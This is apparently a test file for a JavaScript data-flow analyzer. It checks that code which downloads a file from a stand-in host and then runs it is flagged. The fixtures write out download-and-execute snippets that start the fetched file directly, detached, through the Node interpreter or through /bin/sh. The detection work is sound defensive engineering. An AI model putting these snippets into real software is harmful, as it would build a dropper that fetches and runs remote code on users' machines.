import { describe, expect, test } from 'vitest';
import { analyzeJs } from './facts.ts';
import { LABEL } from './labels.ts';

const HEAD = `const fs = require('fs'); const { spawn } = require('child_process');
  const store = async (file) => fs.writeFileSync(file, await (await fetch('https://a.weir.test/x')).text());`;

function startsDownload(code: string): boolean {
  return analyzeJs(`${HEAD} ${code}`).flow.flows.some(
    ({ sink, labels }) => sink === 'command' && (labels & LABEL.dropped) !== 0,
  );
}

describe('what was downloaded is started', () => {
  test.each([
    ['by its path', `const file = '/opt/x'; store(file).then(() => spawn(file, ['-q']));`],
    [
      'by one of several lists',
      `const file = '/opt/x'; store(file).then(() => { const how = ok ? [file, []] : [process.execPath, [file]]; spawn(...how, { detached: true }); });`,
    ],
    [
      'by an interpreter',
      `const file = '/opt/x.js'; store(file).then(() => spawn(process.execPath, [file]));`,
    ],
    ['by a shell', `const file = '/opt/x.sh'; store(file).then(() => spawn('/bin/sh', [file]));`],
  ])('%s', (_what, code) => {
    expect(startsDownload(code)).toBe(true);
  });

  test('and not where another program looks at it', () => {
    expect(startsDownload(`const file = '/opt/x'; store(file).then(() => spawn('tar', [file, '-x']));`)).toBe(
      false,
    );
  });
});
